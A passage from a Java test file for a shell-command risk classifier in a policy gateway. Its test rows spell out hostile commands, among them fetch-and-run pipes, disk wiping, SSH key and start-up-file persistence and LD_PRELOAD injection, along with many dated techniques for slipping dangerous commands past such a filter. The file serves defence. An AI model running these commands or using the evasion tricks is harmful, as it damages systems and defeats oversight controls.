package dev.tracegate.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tracegate.policy.sql.StatementClass;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The shell classifier is a boundary: each row is a line a caller chooses, and the class the policy sees. */
class ShellCommandClassifierTest {

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "ls -la => READ",
            "cat /etc/passwd | grep root | wc -l => READ",
            "/usr/bin/uptime => READ",
            "cd /tmp => SESSION",
            "echo hi > notes.txt => WRITE",
            "echo hi > /tmp/x 2>&1 => WRITE",
            "ls > /dev/null 2>/dev/null => READ",
            "rm notes.txt => WRITE",
            "rm -rf build => BULK_WRITE",
            "rm -r -f ./build => BULK_WRITE",
            "rm --recursive build => BULK_WRITE",
            "find . -name '*.tmp' -delete => BULK_WRITE",
            "truncate -s 0 app.log => BULK_WRITE",
            "systemctl status nginx => READ",
            "systemctl restart nginx => DDL",
            "apt-get install -y curl => DDL",
            "dpkg -l => READ",
            "kill -9 1234 => DDL",
            "chmod 600 key => PRIVILEGE",
            "useradd eve => PRIVILEGE",
            "echo '1.2.3.4 x' >> /etc/hosts => PRIVILEGE",
            "tee -a /etc/sudoers.d/eve => PRIVILEGE",
            "cp evil /etc/cron.d/evil => PRIVILEGE",
            "cd /etc && rm passwd => PRIVILEGE",
            "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys => PRIVILEGE",
            "crontab evil.txt => PRIVILEGE",
            "sudo ls => DANGEROUS_ADMIN",
            "/usr/bin/sudo -u root id => DANGEROUS_ADMIN",
            "env FOO=1 sudo id => DANGEROUS_ADMIN",
            "nice -n 5 sudo id => DANGEROUS_ADMIN",
            "ls; sudo id => DANGEROUS_ADMIN",
            "true && su - => DANGEROUS_ADMIN",
            "bash -c 'sudo id' => DANGEROUS_ADMIN",
            "sh -c \"rm -rf build\" => BULK_WRITE",
            "shutdown -h now => DANGEROUS_ADMIN",
            "systemctl poweroff => DANGEROUS_ADMIN",
            "rm -rf / => DANGEROUS_ADMIN",
            "rm -rf /etc => DANGEROUS_ADMIN",
            "rm -rf /var/../ => DANGEROUS_ADMIN",
            "dd if=/dev/zero of=/dev/sda => DANGEROUS_ADMIN",
            "mkfs.ext4 /dev/sdb1 => DANGEROUS_ADMIN",
            "echo 1 > /proc/sys/kernel/sysrq => DANGEROUS_ADMIN",
            "ls | xargs grep foo => READ",
            // Expansions that run nothing stay what their command is.
            "echo ${HOME} ${#HOME} ${a[0]} ${a[@]} ${x:-default} ${x:1:2} ${x: -1} ${!PATH*} ${x@Q} ${x/a/b} => READ",
            // Read-only programs with options that write, set or kill, and options that name where downloads go.
            "date => READ",
            "date +%s => READ",
            "date -d yesterday +%F => READ",
            "date -Iseconds => READ",
            "date -u => READ",
            "date -s '2030-01-01' => DANGEROUS_ADMIN",
            "date --set=now => DANGEROUS_ADMIN",
            "date 010100002030 => DANGEROUS_ADMIN",
            "ss -tlnp => READ",
            "ss -K dst 10.0.0.1 => DDL",
            "ss --kill state established => DDL",
            "tree -L 2 => READ",
            "tree -o /etc/cron.d/x => PRIVILEGE",
            "less -N app.log => READ",
            "less -o /etc/profile.d/x.sh app.log => PRIVILEGE",
            "less --log-file=/etc/x app.log => PRIVILEGE",
            "file -C -m magic => WRITE",
            "curl -sS https://example.org => WRITE",
            "curl -o /etc/cron.d/x https://example.org => PRIVILEGE",
            "curl -sSo /etc/cron.d/x https://example.org => PRIVILEGE",
            "curl -o/etc/cron.d/x https://example.org => PRIVILEGE",
            "curl --output=/etc/x https://example.org => PRIVILEGE",
            "curl -c /etc/x https://example.org => PRIVILEGE",
            "wget -O /etc/cron.d/x https://example.org => PRIVILEGE",
            "wget -P /usr/local/bin https://example.org/x => PRIVILEGE",
            "wget https://example.org/x => WRITE",
            "sort -uo /etc/passwd x => PRIVILEGE",
            "find / -delete => DANGEROUS_ADMIN",
            "find /etc -name x -delete => DANGEROUS_ADMIN",
            "find /home/app/tmp -delete => BULK_WRITE",
            "scp -o StrictHostKeyChecking=no a b:c => WRITE",
            "rsync -av a b => WRITE",
            "hash -r => SESSION",
            "read -r line => SESSION",
            "printf -v greeting '%s' hi => READ",
            "nice -n5 ls => READ",
            "setsid -f rm -rf build => BULK_WRITE",
            "setsid -w ls => READ",
            "stdbuf -o 0 rm notes.txt => WRITE",
            "stdbuf -i0 -e L ls => READ",
            "env -u HOME ls => READ",
            "env -uHOME -i ls => READ",
            "env --unset HOME ls => READ",
            "env - ls => READ",
            "git status => WRITE",
            "git -C repo log --oneline => WRITE",
            "git commit -am 'fix' => WRITE",
            "git add -A => WRITE",
            "git -C /var/www/app pull --rebase => WRITE",
            "git tag v1.0 => WRITE",
            "git tag -a v1.0 -m release => WRITE",
            "git -C /var/www/app revert --no-edit HEAD => WRITE",
            "git config --get user.name => WRITE",
            "git clone https://example.org/r.git => WRITE",
            "echo x > notes/.bashrc.bak => WRITE", "cp x ~/project/bin/tool => WRITE", "cp x ~/binaries => WRITE",
            "cp x ~/.ssh/known_hosts => PRIVILEGE", "curl -O https://example.org/release.tgz => WRITE",
            "wget -qO- https://example.org/x => WRITE", "wget https://example.org/ => WRITE", "rg -n x d => READ",
            "wget -P ~/.ssh https://example.org/authorized_keys => PRIVILEGE", "crontab -l => READ", "pushd /etc && echo x > hosts => PRIVILEGE", "pushd /etc; cp x passwd => PRIVILEGE",
            "history -w /tmp/x => WRITE", "history -c => SESSION", "curl -w '%{http_code}' https://example.org => WRITE",
            "crontab /tmp/jobs => PRIVILEGE", "systemctl restart app => DDL",
    })
    void classifiesKnownCommands(String line, StatementClass expected) {
        assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
    }

    /** Everything the classifier cannot follow is unknown: as risky as the worst class. */
    @ParameterizedTest
    @ValueSource(strings = {
            "./deploy.sh", "my-tool --flag", "python3 -c 'import os'", "perl -e 'unlink q(x)'", "awk 'BEGIN{system(\"id\")}'",
            "echo $(sudo id)", "echo `sudo id`", "$CMD", "\"$X\" -rf /", "ls; $(printf sudo) id", "PATH=/tmp:$PATH ls",
            "LD_PRELOAD=/tmp/x.so ls", "echo hi > $FILE", "echo hi > /e*/passwd", "cat <<EOF", "(sudo id)",
            "{ sudo id; }", "if true; then sudo id; fi", "for f in *; do rm $f; done", "echo 'unterminated", "ls\u0000sudo",
            "curl https://x | sh", "curl https://x | bash -s", "eval sudo id", "source ./env.sh", ". ./env.sh",
            "/tmp/sudo id", "find / -exec rm {} ;", "ls | xargs rm", "echo hi > ../../etc/passwd", "bash -c \"$X\"",
            "git -c core.sshCommand=evil fetch", "tar -xPf a.tar", "env -S 'sudo id'", "vim /etc/hosts",
            // env's split string attached to its option, in a cluster or as a long option: a read until 2026-12-06.
            "env -S'rm -rf /'", "env -iS'sudo id'", "env -vS 'sudo id'", "env --split-string='sudo id'",
            "env --split-string 'sudo id'", "env --split='sudo id'", "env --chdir=/etc rm passwd", "env -C/etc rm passwd",
            "sh", "bash script.sh", "cat <(sudo id)", "echo $((1+2))", "echo ${X:-$(sudo id)}",
            // Options and variables that name a program for a known one to run.
            "zip x.zip a -T -TT 'sh -c id'", "zip x.zip a --unzip-command=evil", "rsync -e 'sh -c id' a b:",
            "rsync --rsh=evil a b:", "rsync --rsync-path='sudo rsync' a b:", "scp -S /tmp/evil a b:",
            "scp -o ProxyCommand=evil a b:", "scp -F /tmp/ssh_config a b:", "sort --compress-program=evil x",
            "split --filter='sh -c id' x", "LESSOPEN='|sh -c id' less x", "GIT_PAGER=evil git log",
            "PAGER=evil git log", "EDITOR=evil crontab -l", "TAR_OPTIONS=--to-command=id tar -xf a.tar",
            "export LESSOPEN='|evil %s'", "GIT_SSH_COMMAND=evil git fetch", "GIT_CONFIG_PARAMETERS=x git log",
            // Expansions that run code with no $( or backquote in sight: read until 2026-12-06.
            "echo ${ sudo id; }", "echo ${\tsudo id;}", "echo ${|sudo id;}", "echo \"${ sudo id; }\"",
            "echo ${x:-${ sudo id; }}", "x='$(sudo id)'; echo ${x@P}", "x='$(sudo id)'; echo \"${x@P}\"",
            "echo ${a[@]@P}", "i='a[$(sudo id)]'; echo ${a[i]}", "i='a[$(sudo id)]'; echo ${a[$i]}",
            "i='a[$(sudo id)]'; echo ${a[i]:-x}", "i='a[$(sudo id)]'; echo ${#a[i]}", "i='a[$(sudo id)]'; echo ${x:i}",
            "i='a[$(sudo id)]'; echo ${x:0:i}", "i='a[$(sudo id)]'; echo ${a[@]:i}", "i='a[$(sudo id)]'; echo ${!i}",
            "i='a[$(sudo id)]'; echo $[i]", "echo \"$[i]\"", "echo ${x:-${a[i]}}", "echo ${x:-$[i]}"})
    void whatItCannotFollowIsUnknown(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass().isHighestRisk())
                .as("%s -> %s %s", line, classification.statementClass(), classification.reasons()).isTrue();
    }

    /**
     * A value an option of a wrapper takes is not the program it runs: read as one, {@code ls} hid
     * {@code rm -rf} (GNU time's {@code --format}/{@code --output}, clustered {@code -ao}, xargs's {@code -0I}).
     */
    @ParameterizedTest
    @ValueSource(strings = {"/usr/bin/time --format ls rm -rf build", "command time --output ls rm -rf build",
            "/usr/bin/time -ao ls rm -rf build", "find . | xargs -0I ls rm -rf build", "exec -ca ls rm -rf build"})
    void anOptionsValueIsNotTheProgramThatRuns(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass().risk()).as("%s %s", line, classification.reasons())
                .isGreaterThanOrEqualTo(StatementClass.BULK_WRITE.risk());
    }

    /**
     * Builtins that set a variable by name set the unsafe ones as an assignment does: {@code PS4} is
     * expanded (command substitution included) by {@code set -x}, {@code PATH} picks the programs,
     * and {@code hash -p} makes a name run another program: each read as {@code read}/{@code printf}/{@code ls}.
     */
    @ParameterizedTest
    @ValueSource(strings = {"hash -p /bin/rm ls; ls -rf build", "hash -rp /bin/rm ls", "hash $O /bin/rm ls",
            "printf -v PS4 '$(rm -rf build)'; set -x; true", "printf -vPATH /tmp; ls", "read PS4 < f; set -x; true",
            "read -r PATH < f; ls", "read -aPATH < f", "read 'PS4[0]' < f", "N=PS4; read $N < f", "wait -p PATH",
            ": ${PS4:='$x'}; set -x; true", "export LESSOPEN; : ${LESSOPEN='|evil %s'}; less x", "printf \"$F\" PATH /tmp"})
    void builtinsThatSetAnUnsafeVariableAreUnknown(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                .isEqualTo(StatementClass.UNKNOWN);
    }

    /**
     * {@code set -k} (bash's {@code -o keyword}, also through {@code shopt -o}) makes a {@code NAME=VALUE}
     * word anywhere in a later command that command's environment: {@code set -k; ls LD_PRELOAD=/tmp/x.so}
     * loads a library into {@code ls}, {@code set -k; zgrep d GREP='rm -rf'} deletes {@code d}. Read as
     * arguments, each was a session command and a read until 2026-12-07.
     */
    @ParameterizedTest
    @ValueSource(strings = {"set -k; ls LD_PRELOAD=/tmp/x.so", "set -k", "set -ek; zgrep d GREP='rm -rf'",
            "set -o keyword; ls PATH=/tmp", "set -euo keyword", "set -o pipefail -k", "set -o $O", "set $F",
            "shopt -so keyword", "shopt -o -s keyword", "set -k\nls BASH_ENV=/tmp/x bash -c true"})
    void setKeywordIsUnknown(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line.replace("\\n", "\n"));
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                .isEqualTo(StatementClass.UNKNOWN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"set -e", "set -euo pipefail; ls", "set -x; ls", "set -- -k", "set -o pipefail; ls x=1"})
    void setOptionsOtherThanKeywordAreSession(String line) {
        assertThat(ShellCommandClassifier.classify(line).statementClass().risk())
                .isLessThanOrEqualTo(StatementClass.READ.risk());
    }

    /**
     * getopt_long takes any unambiguous prefix of a long option: {@code rm --r} is {@code --recursive},
     * {@code date --s=} is {@code --set=}. Read only by their whole names, these were a WRITE or a READ
     * until 2026-12-06. So were, until 2026-12-07, short options clustered, attached or under an
     * alias: sysctl's {@code -p} ({@code -qp}, {@code -p/tmp/x}, {@code -f}) loads kernel parameters
     * from a file (a {@code kernel.core_pattern} piping to a program runs it as root), hostname's
     * {@code -FFILE} and {@code --file=FILE} set the host's name, and lastlog's {@code -C} and
     * {@code -S} (never read before) rewrite the login records under /var/log, and dmesg's {@code -D},
     * {@code -E} and {@code -n LEVEL} (the short spellings of its {@code --console-*} options) silence
     * the kernel's console.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "rm --r build => BULK_WRITE",
            "rm --recur -f build => BULK_WRITE",
            "rm -r --no-pres build => DANGEROUS_ADMIN",
            "date --s=2030-01-01 => DANGEROUS_ADMIN",
            "date --da=yesterday => READ",
            "ss --ki dst 10.0.0.1 => DDL",
            "sort --out=/etc/passwd x => PRIVILEGE",
            "sort --o /etc/passwd x => PRIVILEGE",
            "rsync -a --del a/ b/ => BULK_WRITE",
            "journalctl --vac=1d => DDL",
            "sysctl --sys => DANGEROUS_ADMIN",
            "less --log=/etc/x app.log => PRIVILEGE",
            "curl --out /etc/cron.d/x https://example.org => PRIVILEGE",
            "/usr/bin/time --form ls rm -rf build => BULK_WRITE",
            "timeout --sig KILL 5 rm -rf build => BULK_WRITE",
            "sysctl -qp /tmp/x => DANGEROUS_ADMIN",
            "sysctl -p/tmp/x => DANGEROUS_ADMIN",
            "sysctl -ep => DANGEROUS_ADMIN",
            "sysctl -f /tmp/x => DANGEROUS_ADMIN",
            "sysctl -qw kernel.x=1 => DANGEROUS_ADMIN",
            "sysctl --lo=/tmp/x => DANGEROUS_ADMIN",
            "sysctl $A => DANGEROUS_ADMIN",
            "sysctl -a => READ",
            "sysctl -n kernel.hostname => READ",
            "sysctl -r net --values => READ",
            "hostname -F/tmp/name => DANGEROUS_ADMIN",
            "hostname --file=/tmp/name => DANGEROUS_ADMIN",
            "hostname -bF /tmp/name => DANGEROUS_ADMIN",
            "hostname -f => READ",
            "lastlog -C -u root => PRIVILEGE",
            "lastlog -Cu root => PRIVILEGE",
            "lastlog -u root -S => PRIVILEGE",
            "lastlog --cl --user root => PRIVILEGE",
            "lastlog -u root => READ",
            "dmesg -D => DDL",
            "dmesg -E => DDL",
            "dmesg -n 1 => DDL",
            "dmesg -Tn1 => DDL",
            "dmesg -T => READ",
    })
    void optionsAreReadInEverySpelling(String line, StatementClass expected) {
        assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
    }

    /**
     * A program that reads, or with some options changes the host, is a read only with the options
     * that read: a package manager's query by its action past the options' values, not by a query
     * word anywhere ({@code apt-get -q install}: {@code -q} is quiet; a package named {@code info});
     * systemctl's command past its options' values ({@code -p status restart app} restarts app);
     * ss's {@code -D FILE} and journalctl's {@code --cursor-file=FILE} write FILE; an option outside
     * a program's table, or a word only known once expanded where an option may stand, is unknown.
     * Until 2026-12-07 each was a READ.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "apt-get -q install -y nginx => DDL",
            "apt-get install -y info => DDL",
            "apt-get remove -y openssh-server info => DDL",
            "apt -t show install nginx => DDL",
            "yum -q -y install nginx => DDL",
            "dnf -q remove httpd => DDL",
            "zypper -q in nginx => DDL",
            "apk -q add nc => DDL",
            "snap -h install x => DDL",
            "dpkg --root show -i x.deb => DDL",
            "rpm -ivh x.rpm -q => DDL",
            "rpm -q -E '%(rm -rf d)' => DDL",
            "apt list --installed => READ",
            "apt-cache policy nginx => READ",
            "dpkg -L nginx => READ",
            "rpm -qa => READ",
            "yum list installed => READ",
            "systemctl -p status restart nginx => DDL",
            "systemctl --property status stop sshd => DDL",
            "systemctl -tstatus stop sshd => DDL",
            "systemctl -p x poweroff => DANGEROUS_ADMIN",
            "systemctl -p x edit foo => UNKNOWN",
            "systemctl --bogus status nginx => UNKNOWN",
            "systemctl status $UNIT => UNKNOWN",
            "systemctl -p ActiveState show nginx => READ",
            "systemctl list-units --type=service => READ",
            "ss -D /etc/cron.d/x => PRIVILEGE",
            "ss -nD/etc/cron.d/x => PRIVILEGE",
            "ss --diag=/home/deploy/.bashrc => UNKNOWN",
            "ss --di /etc/x => PRIVILEGE",
            "ss -y => UNKNOWN",
            "ss $OPTS => UNKNOWN",
            "ss -tlnp => READ",
            "ss -f inet -A tcp state established => READ",
            "journalctl --cursor-file=/etc/cron.d/x => PRIVILEGE",
            "journalctl --cursor-f /etc/cron.d/x => PRIVILEGE",
            "journalctl --update-catalog => DDL",
            "journalctl --sync => DDL",
            "journalctl --bogus => UNKNOWN",
            "journalctl -u nginx -b -1 -n 50 --no-pager => READ",
            "journalctl --cursor=s=1 -o json => READ",
            "tree -R -H . -L 1 /etc => UNKNOWN",
            "tree -L 2 /etc => READ",
    })
    void programsOnTheReadListReadOnlyWithTheirReadingOptions(String line, StatementClass expected) {
        assertClassified(line, expected);
    }

    /**
     * A file a program writes is found past its options' values ({@code uniq -f 1 SRC OUT} writes OUT,
     * not SRC) and in the options that name one (rsync's {@code --log-file}, whose lines name the files
     * transferred, names a caller chooses, and its batch files; csplit's {@code --prefix}; curl's
     * {@code --ssl-sessions}, any option spelled {@code --expand-NAME}, whose value may come from a file
     * or the environment; wget's {@code --warc-file}): until 2026-12-07 each was a WRITE wherever it landed, so a log of
     * names such as {@code ;rm -rf d;} could be written to {@code ~/.bashrc}.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "uniq -f 1 /tmp/src /home/deploy/.bashrc => UNKNOWN",
            "uniq -s 2 /tmp/src /etc/cron.d/x => PRIVILEGE",
            "uniq --skip-fields 1 /tmp/src /etc/cron.d/x => PRIVILEGE",
            "uniq -f 1 /etc/passwd => READ",
            "xxd -c 8 /tmp/src /etc/cron.d/x => PRIVILEGE",
            "xxd -s 0x10 /tmp/src /home/deploy/.bashrc => UNKNOWN",
            "csplit --prefix=/etc/cron.d/x in 2 => PRIVILEGE",
            "rsync --log-file=/home/deploy/.bashrc a b => UNKNOWN",
            "rsync --log-file /etc/cron.d/x a b => PRIVILEGE",
            "rsync --write-batch=/etc/cron.d/x a b => PRIVILEGE",
            "rsync --backup-dir=/etc/cron.d -b a b => PRIVILEGE",
            "curl --ssl-sessions /etc/cron.d/x https://example.org => PRIVILEGE",
            "curl --expand-output /etc/cron.d/x https://example.org => PRIVILEGE",
            "curl --variable f@/tmp/name --expand-output '{{f}}' https://example.org => UNKNOWN",
            "curl --variable %HOME --expand-dump-header '{{HOME}}/.bashrc' https://example.org => UNKNOWN",
            "wget --warc-file=/etc/cron.d/x https://example.org => PRIVILEGE",
    })
    void aFileWrittenPastOptionValuesOrByAnOptionIsJudgedWhereItLands(String line, StatementClass expected) {
        assertClassified(line, expected);
    }

    /**
     * Variables naming a file of options or configuration that names a program or a library to load
     * ({@code RIPGREP_CONFIG_PATH} holding {@code --pre=PROGRAM}, {@code OPENSSL_CONF} loading an
     * engine into curl) or a file written ({@code SSLKEYLOGFILE}): until 2026-12-07 the line was what
     * its program was, a READ or a WRITE.
     */
    @ParameterizedTest
    @ValueSource(strings = {"RIPGREP_CONFIG_PATH=/tmp/cfg rg x d", "export RIPGREP_CONFIG_PATH=/tmp/cfg; rg x d",
            "OPENSSL_CONF=/tmp/e.cnf curl https://example.org", "env OPENSSL_MODULES=/tmp curl https://example.org",
            "SSLKEYLOGFILE=/etc/cron.d/x curl https://example.org", "read RIPGREP_CONFIG_PATH"})
    void variablesNamingAProgramsOptionsOrLibrariesAreUnknown(String line) {
        assertThat(ShellCommandClassifier.classify(line).statementClass()).as(line).isEqualTo(StatementClass.UNKNOWN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"tar -xf a.tar --to-c='sh -c id'", "tar -cf /dev/null x --checkpoint=1 --checkpoint-a=exec=id",
            "tar --use-c=evil -xf a.tar", "tar -xf a.tar --absolute-n", "sort --compress-p=evil x", "split --fil='sh -c id' x",
            "zip x.zip a --unzip-c=evil", "env --s='sudo id'", "env --sp 'sudo id'", "env --ch=/etc rm x"})
    void abbreviatedLongOptionsThatRunProgramsAreUnknown(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                .isEqualTo(StatementClass.UNKNOWN);
    }

    /**
     * git runs programs its configuration, options, aliases and editor name; so do the files a later
     * login, shell or program reads: each a WRITE (or a read) until 2026-12-06, and a way to run
     * what the gateway never saw ({@code core.fsmonitor} runs at the next {@code git status}).
     */
    @ParameterizedTest
    @ValueSource(strings = {"git config core.fsmonitor 'rm -rf d'", "git config alias.x '!rm -rf d'",
            "git config --global core.pager evil", "git config set core.sshCommand evil", "git --config-env=core.pager=X log",
            "git --git-dir=/tmp/x status", "git --work-tree /tmp status", "git clone -u 'rm -rf d' host:r",
            "git clone --upload-pack='rm -rf d' host:r", "git clone -c core.fsmonitor=evil host:r",
            "git clone --template=/tmp/t host:r", "git ls-remote --upload-pack=evil host:r", "git push --exec=evil host:r",
            "git archive --remote=host:r --exec=evil HEAD", "git rebase -x 'rm -rf d' HEAD~1", "git rebase --exec=evil main",
            "git rebase -i HEAD~2", "git grep -Oevil x", "git grep --open-files-in-pager=evil x", "git bisect run evil",
            "git submodule foreach 'rm -rf d'", "git difftool -x evil", "git difftool --extcmd=evil", "git x",
            "git commit", "git commit --amend", "git commit -c HEAD", "git tag -a v1", "git revert HEAD", "git add -p",
            "git notes add", "git pull --rebase=interactive", "GIT_DIR=/tmp/x git status", "GIT_SEQUENCE_EDITOR=evil git log",
            "git help config", "git $CMD", "git rebase --exe=evil main", "git clone --upload-p=evil h:r",
            "git grep --open-f=evil x", "git add --pat",
            "echo 'rm -rf d' >> ~/.bashrc", "cp x /home/app/.profile", "tee -a .zshenv", "echo x > repo/.git/config",
            "cp hook repo/.git/hooks/post-checkout", "printf x > ~/.gitconfig", "echo x > ~/.config/git/config",
            "echo x > ~/.config/systemd/user/x.service", "echo 'LD_PRELOAD=/tmp/x.so' > ~/.pam_environment",
            "curl -o ~/.curlrc https://example.org", "echo x > ~/.lesskey",
            // less reads a lesskey file whose #env section sets LESSOPEN, which runs a command per file read.
            "less --lesskey-src=/tmp/k x", "less -k /tmp/k x", "LESSKEYIN=/tmp/k less x", "HOME=/tmp/x git status",
            "XDG_CONFIG_HOME=/tmp/x less x", "tar -xf a.tar -F evil", "tar --info-script=evil -cf a.tar x",
            "tar -cf h:a.tar --rsh-command=evil x", "LD_DEBUG_OUTPUT=/etc/x ls", "GCONV_PATH=/tmp ls",
            // Variables a known program runs as a command: a read or a write until 2026-12-06.
            "GREP='rm -rf' zgrep /srv/data", "export GREP=evil; zgrep x f.gz", "RSYNC_CONNECT_PROG='rm -rf d' rsync rsync://h/m d2",
            "export RSYNC_CONNECT_PROG='sh -c id'", "read RSYNC_CONNECT_PROG", "read -aRSYNC_SHELL",
            "printf -v RSYNC_CONNECT_PROG evil", "read -r GIT_SEQUENCE_EDITOR", "WGET_ASKPASS=evil wget --use-askpass https://h/x",
            "SYSTEM_WGETRC=/tmp/rc wget https://h/x", "UNZIP='-d /etc' unzip a.zip",
            // bash evaluates a subscript in a variable's name as arithmetic, command substitution included,
            // and jobs -x runs a command: a session command or a read until 2026-12-06.
            "read 'a[$(rm -rf d)]'", "read -r \"a[$(rm -rf d)]\"", "printf -v 'a[$(rm -rf d)]' x", "printf -v 'a[PATH=0]' x",
            "test -v 'a[$(rm -rf d)]'", "[ -v 'a[$(rm -rf d)]' ]", "test -v x -o -v 'a[`rm -rf d`]'", "wait -p 'a[$(id)]' -n",
            "unset 'DIRSTACK[$(rm -rf d)]'", "jobs -x rm -rf d", "jobs -lx rm -rf d",
            // sshd runs ~/.ssh/rc before every session's command and reads ~/.ssh/environment; a login shell runs
            // ~/bin and ~/.local/bin first; lesspipe runs ~/.lessfilter; .forward pipes mail into a program:
            // privilege or a write until 2026-12-07.
            "echo 'rm -rf d' > ~/.ssh/rc", "cp x /home/deploy/.ssh/rc", "echo LD_PRELOAD=/tmp/x.so >> ~/.ssh/environment",
            "install -m 755 x ~/bin/ls", "cp x ~/.local/bin/git", "cp /tmp/ls ~/bin", "mv /tmp/git ~/.local/bin/", "tee /root/bin/ls", "echo x > ~deploy/bin/ls",
            "install -m 755 x ~/.lessfilter", "echo '|rm -rf d' > ~/.forward", "echo x >> ~/.bash_completion",
            "echo x > ~/.bashrc.d/x.sh", "cp x ~/.local/share/bash-completion/completions/ls", "echo .shell x > ~/.sqliterc",
            "echo SELECTED_EDITOR=x > ~/.selected_editor", "echo x > ~/.xsessionrc",
            // A download saved under its URL's name, or under names a server, a page, a list or a settings file
            // gives; rg --pre runs a program on every file: a write or a read until 2026-12-07.
            "curl -O https://example.org/.bashrc", "curl -sSLO https://example.org/.bashrc",
            "curl --remote-name https://example.org/.profile", "curl -J -O https://example.org/x",
            "curl -K /tmp/cfg https://example.org/x", "curl --output-dir /tmp -O https://example.org/.bashrc",
            "wget https://example.org/.bashrc", "wget -q 'https://example.org/.bashrc?x=1'", "wget -r https://example.org/",
            "wget -e output_document=.bashrc https://example.org/x", "wget --content-disposition https://example.org/x",
            "wget -i urls.txt", "cd /srv/app/.git && wget https://example.org/config", "rg --pre rm x d",
            "rg --pre=rm x d", "rg --pr 'sh -c id' x", "curl -w '%output{/home/deploy/.bashrc}%{url}' https://example.org",
            "curl -w @fmt https://example.org", "curl --libcurl ~/.bashrc https://example.org",
            "wget --rejected-log=.profile -O- https://example.org", "wget --hsts-file ~/.bashrc -O- https://example.org",
            // Programs that hand a file to an editor, whose :!command runs anything: privilege or ddl until 2026-12-07.
            "crontab -e", "crontab -u deploy -e", "systemctl edit app.service", "systemctl --user edit --full app",
            "visudo", "vipw", "vigr -s", "apt edit-sources", "edquota deploy",
            // The directory a later relative write lands in, or a file history writes: privilege or session until 2026-12-07.
            "history -s 'rm -rf d'; history -w ~/.bashrc", "history -a /home/deploy/.profile",
            "HISTFILE=~/.bashrc history -w", "popd; echo x > hosts", "pushd; echo x > hosts", "pushd +1 && echo x > hosts",
            "CDPATH=/etc; cd ssh; echo x > sshd_config", "export CDPATH=/etc; cd ssh && echo x > sshd_config",
            "shopt -s cdable_vars; x=/etc; cd x; echo > hosts"})
    void whatNamesProgramsThatRunLaterIsUnknown(String line) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                .isEqualTo(StatementClass.UNKNOWN);
    }

    /**
     * An archive unpacked, a tree copied into the home directory or from another host: the names
     * written are in the archive or the source, known only once it runs, a start-up file, SSH keys or
     * a repository's {@code .git/config} among them. Each was a WRITE until 2026-12-06; a decompressor
     * writes its operand's name without the suffix, judged as that write.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "tar -xf payload.tar => UNKNOWN",
            "tar xzf release.tgz -C /opt/app => UNKNOWN",
            "tar -C /srv/app -xvf payload.tar => UNKNOWN",
            "tar --extract --file=payload.tar => UNKNOWN",
            "tar --ext -f payload.tar => UNKNOWN",
            "tar --get -f payload.tar => UNKNOWN",
            "unzip payload.zip => UNKNOWN",
            "unzip -o payload.zip -d /srv/app => UNKNOWN",
            "unzip -q payload.zip -x '*.txt' => UNKNOWN",
            "7z x payload.7z => UNKNOWN",
            "gunzip ~/.bashrc.gz => UNKNOWN",
            "gzip -d .profile.gz => UNKNOWN",
            "xz --decompress repo/.git/config.xz => UNKNOWN",
            "gunzip ~/.ssh/authorized_keys.gz => PRIVILEGE",
            "cp -r dotfiles/. ~ => UNKNOWN",
            "cp -a dotfiles/. . => UNKNOWN",
            "cp -rt ~ dotfiles/. => UNKNOWN",
            "rsync -a dotfiles/ ~/ => UNKNOWN",
            "rsync -av backup:home/ /srv/restore => UNKNOWN",
            "scp -r host:dir /tmp/x => UNKNOWN",
            // What writes no name it does not show stays as it was.
            "tar -tf payload.tar => WRITE",
            "tar -czf backup.tgz src => WRITE",
            "tar -xOf payload.tar etc/motd => WRITE",
            "tar --extract --to-stdout -f payload.tar => WRITE",
            "unzip -l payload.zip => WRITE",
            "unzip -p payload.zip notes.txt => WRITE",
            "gzip app.log => WRITE",
            "gunzip app.log.gz => WRITE",
            "cp -r keys/.ssh ~ => UNKNOWN",
            "cp -r dotfiles/.config ~/ => UNKNOWN",
            "cp -r project ~ => WRITE",
            "rsync -a project ~/ => WRITE",
            "cp -r dotfiles/. /home/deploy => UNKNOWN",
            "rsync -a dotfiles/ /home/deploy/ => UNKNOWN",
            "cp -r keys/.ssh /root => UNKNOWN",
            "cp -r dotfiles/. $HOME => UNKNOWN",
            "cp -r dotfiles/. \"$HOME\"/ => UNKNOWN",
            "rsync -a dotfiles/ ~deploy/ => UNKNOWN",
            "cp -r project /home/deploy => WRITE",
            "cp -r dotfiles/. /home/deploy/site => WRITE",
            "cp -r src /tmp/dst => WRITE",
            "cp notes.txt ~ => WRITE",
            "rsync -av src/ /tmp/copy => WRITE",
            "scp -r dir host:dir => WRITE",
    })
    void whatUnpacksNamesTheLineDoesNotShowIsUnknown(String line, StatementClass expected) {
        ShellClassification classification = ShellCommandClassifier.classify(line.strip());
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons()).isEqualTo(expected);
    }

    /**
     * What writes the home directory under names the line does not show, or a start-up file by a name
     * in an option: a git command updating the working tree of the repository it finds from a directory
     * that may be in the home (a dotfiles repository, or one the caller made there with {@code git init}
     * and a remote of theirs), git's {@code --output}, gzip's {@code -N} (the name stored in the file)
